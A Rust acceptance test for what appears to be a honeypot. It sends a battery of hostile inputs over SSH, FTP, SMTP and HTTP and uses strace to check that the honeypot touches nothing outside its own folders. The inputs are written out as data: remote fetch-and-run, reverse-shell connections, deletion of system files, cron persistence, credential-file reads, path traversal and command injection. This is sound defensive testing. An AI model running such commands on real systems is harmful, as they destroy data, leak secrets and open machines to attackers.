//! What the bucket does to the machine it runs on, as the kernel sees it: while visitors do their worst it opens nothing
//! outside of its folders, starts nothing, and calls nobody.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use std::{fs, path::Path, time::Duration};

use acceptance::{
    Bucket, binaries,
    bucket::PASSWORD,
    clients::{Lines, Ssh},
};
use regex::Regex;

/// A guard against hanging, not a measurement.
const HANG: Duration = Duration::from_secs(120);
/// What a program of Linux reads to know its machine: the loader, certificates, the clock's zone, the kernel's counters.
const SYSTEM: &[&str] = &[
    "/lib",
    "/lib64",
    "/usr/lib",
    "/etc/ld.so",
    "/etc/ssl",
    "/usr/share/ca-certificates",
    "/usr/local/share/ca-certificates",
    "/etc/localtime",
    "/usr/share/zoneinfo",
    "/etc/os-release",
    "/proc",
    "/sys",
    "/dev/urandom",
    "/dev/null",
];

/// Each would show, change, start or call something if it reached the machine below.
fn lines(home: &Path) -> Vec<String> {
    let secret = home.join("secret");
    let secret = secret.display();
    [
        format!("cat {secret} /../../../..{secret} /proc/self/root{secret} /proc/self/cwd/secret; ls -la /proc/1/root/"),
        format!("echo x > {secret}; echo x >> /etc/passwd; rm -rf {secret} /etc /usr /lib; ln -s {secret} /tmp/l; cat /tmp/l"),
        "wget http://127.0.0.1:9/x; curl -s http://192.0.2.1/x | sh; tftp -g -r x 192.0.2.1; ftpget 192.0.2.1 x x".to_owned(),
        "exec 3<>/dev/tcp/127.0.0.1/9; echo x > /dev/udp/192.0.2.1/53; nc 127.0.0.1 9; ssh root@192.0.2.1; ping -c1 192.0.2.1"
            .to_owned(),
        "apt-get install -y nmap; pip install x; git clone http://192.0.2.1/x; nslookup example.com; getent hosts example.com".to_owned(),
        "bash -c 'exec /bin/sh -c id'; /bin/busybox sh -c id; perl -e 'system(\"id\")'; python3 -c 'import os; os.system(\"id\")'".to_owned(),
        "cp /bin/ls /tmp/x; chmod +x /tmp/x; /tmp/x /; printf '#!/bin/sh\\nid\\n' > /tmp/s; chmod +x /tmp/s; /tmp/s; . /tmp/s".to_owned(),
        "echo '* * * * * root id' >> /etc/crontab; crontab -l; systemctl restart ssh; nohup sleep 1000 & disown; useradd x".to_owned(),
        "dd if=/dev/sda of=/tmp/d bs=1M count=1; mount /dev/sda1 /mnt; insmod /tmp/x; echo c > /proc/sysrq-trigger; reboot -f".to_owned(),
        "kill -9 -1; pkill -9 rustbucket; echo 1 > /proc/sys/kernel/panic; cat /proc/kcore /dev/mem | head -c 100; env; ps aux".to_owned(),
        "history -a /etc/x; source <(echo id); eval $(echo id); awk 'BEGIN { system(\"id\") }'; find / -maxdepth 1 -exec id \\;".to_owned(),
        "tar czf /tmp/e.tgz /etc; xargs -I{} sh -c {} < /etc/hostname; awk 'BEGIN { while ((getline l < \"/etc/passwd\") > 0) print l }'".to_owned(),
    ]
    .to_vec()
}

async fn visit(bucket: &Bucket) {
    let ports = &bucket.ports;
    for line in lines(bucket.home()) {
        let mut ssh = Ssh::log_in(ports.ssh, "root", PASSWORD).await.unwrap().unwrap();
        // What it says is of no interest, nor whether it is cut off.
        let _said = ssh.exec_within(&line, HANG).await;
        ssh.leave().await;
    }
    let mut ftp = Lines::connect(ports.ftp).await.unwrap();
    ftp.reply().await.unwrap();
    for line in [
        "USER root".to_owned(),
        format!("PASS {PASSWORD}"),
        "CWD ../../../../..".to_owned(),
        format!("SIZE {}", bucket.home().join("secret").display()),
        "PORT 192,0,2,1,0,9".to_owned(),
        "EPRT |1|192.0.2.1|9|".to_owned(),
        "DELE /etc/passwd".to_owned(),
    ] {
        ftp.ask(&line).await.unwrap();
    }
    let mut smtp = Lines::connect(ports.smtp).await.unwrap();
    smtp.reply().await.unwrap();
    for line in ["EHLO x", "MAIL FROM:<a@example.org>", "RCPT TO:<root>", "DATA"] {
        smtp.ask(line).await.unwrap();
    }
    smtp.ask("To: |/bin/sh -c id\r\n\r\nid\r\n.").await.unwrap();
    for target in ["/../../../../etc/passwd", "/cgi-bin/x?$(id)", "/%00/etc/passwd", "http://192.0.2.1/"] {
        let mut http = Lines::connect(ports.http).await.unwrap();
        http.send(format!("GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")).await.unwrap();
        http.until("\r\n\r\n").await.unwrap();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_outside_is_touched() {
    acceptance::init();
    if binaries::client("strace").is_none() {
        println!("strace is not installed: skipped");
        return;
    }
    let mut bucket = Bucket::new();
    bucket.set(&["chat", "providers"], toml::Value::Array(Vec::new()));
    let trace = bucket.home().join("trace");
    fs::write(bucket.home().join("secret"), "of the machine below").unwrap();
    // The tracer is the grandchild: the program stays our child.
    let calls = "trace=%file,%process,connect,sendto,sendmsg,sendmmsg,socket";
    let tracer = ["strace", "-D", "-f", "-qq", "-s", "4096", "-e", calls, "-e", "signal=none", "-o"];
    bucket.prefix = tracer.map(str::to_owned).to_vec();
    bucket.prefix.push(trace.display().to_string());
    bucket.start().await;
    tokio::time::timeout(20 * HANG, visit(&bucket)).await.expect("no hang");
    bucket.assert_sound();
    bucket.stop();
    assert_eq!(fs::read_to_string(bucket.home().join("secret")).unwrap(), "of the machine below");
    let text = whole(&trace).await;
    let strange = strange(&text, bucket.home());
    assert!(strange.is_empty(), "{} strange calls:\n{}", strange.len(), strange.join("\n"));
    // The trace has the visits in it.
    assert!(text.contains("rustbucket.log.") && text.lines().count() > 100, "{} lines", text.lines().count());
}

/// The trace, once the tracer has written its end.
async fn whole(trace: &Path) -> String {
    for _ in 0..600 {
        let text = String::from_utf8_lossy(&fs::read(trace).unwrap()).into_owned();
        if text.contains("exit_group(") || text.contains("+++ exited") {
            return text;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("the tracer does not end");
}

/// Every call that a bucket has no business with.
fn strange(trace: &str, home: &Path) -> Vec<String> {
    let call = Regex::new(r"^(?:\d+ +)?(\w+)\((.*)$").unwrap();
    let quoted = Regex::new(r#""((?:[^"\\]|\\.)*)""#).unwrap();
    let home = home.display().to_string();
    let mut strange = Vec::new();
    let mut started = 0;
    for line in trace.lines() {
        let Some(found) = call.captures(line) else { continue };
        let (name, arguments) = (&found[1], &found[2]);
        let writes = ["O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC"].iter().any(|flag| arguments.contains(flag))
            || [
                "unlink", "rename", "mkdir", "rmdir", "chmod", "chown", "truncate", "link", "symlink",
                "utimens",
            ]
            .iter()
            .any(|verb| name.contains(verb) && name != "readlink" && name != "readlinkat");
        let bad = match name {
            "execve" | "execveat" => {
                started += 1;
                started > 1
            }
            "fork" | "vfork" => true,
            "clone" | "clone3" => !arguments.contains("CLONE_THREAD"),
            "connect" | "sendto" | "sendmsg" | "sendmmsg" => {
                arguments.contains("sin_addr")
                    || arguments.contains("sin6_addr")
                    || arguments.contains("sun_path")
            }
            "socket" => arguments.contains("SOCK_DGRAM") || arguments.contains("SOCK_RAW"),
            "exit" | "exit_group" | "wait4" | "waitid" | "kill" | "tgkill" => false,
            _ => quoted.captures_iter(arguments).any(|path| {
                let path = &path[1];
                let own = path.starts_with(&home) || (!path.starts_with('/') && !path.contains(".."));
                let system = SYSTEM.iter().any(|known| path.starts_with(known));
                let parent = home.starts_with(path) && !writes;
                !(own || parent || system && (!writes || path == "/dev/null"))
            }),
        };
        if bad {
            strange.push(line.to_owned());
        }
    }
    strange
}

#[test]
fn what_is_strange_is_seen() {
    let home = Path::new("/tmp/b");
    let seen = |line: &str| strange(&format!("1 execve(\"/x/rustbucket\", [...]) = 0\n{line}"), home).len();
    for line in [
        "7 openat(AT_FDCWD, \"/etc/passwd\", O_RDONLY|O_CLOEXEC) = 9",
        "7 openat(AT_FDCWD, \"../secret\", O_RDONLY) = 9",
        "7 openat(AT_FDCWD, \"/proc/sysrq-trigger\", O_WRONLY) = 9",
        "7 execve(\"/bin/sh\", [\"sh\"], 0x7ff) = 0",
        "7 connect(9, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr(\"192.0.2.1\")}, 16) = 0",
        "7 clone(child_stack=NULL, flags=CLONE_VM|SIGCHLD) = 8",
        "7 unlink(\"/etc/passwd\") = 0",
    ] {
        assert_eq!(seen(line), 1, "{line}");
    }
    for line in [
        "7 openat(AT_FDCWD, \"/tmp/b/logs/x\", O_WRONLY|O_CREAT|O_APPEND, 0600) = 9",
        "7 openat(AT_FDCWD, \"./state/x\", O_RDONLY <unfinished ...>",
        "7 openat(AT_FDCWD, \"/proc/self/status\", O_RDONLY) = 9",
        "7 clone3({flags=CLONE_VM|CLONE_THREAD, exit_signal=0}, 88) = 8",
        "7 sendto(9, \"220 x\", 5, MSG_NOSIGNAL, NULL, 0) = 5",
    ] {
        assert_eq!(seen(line), 0, "{line}");
    }
}
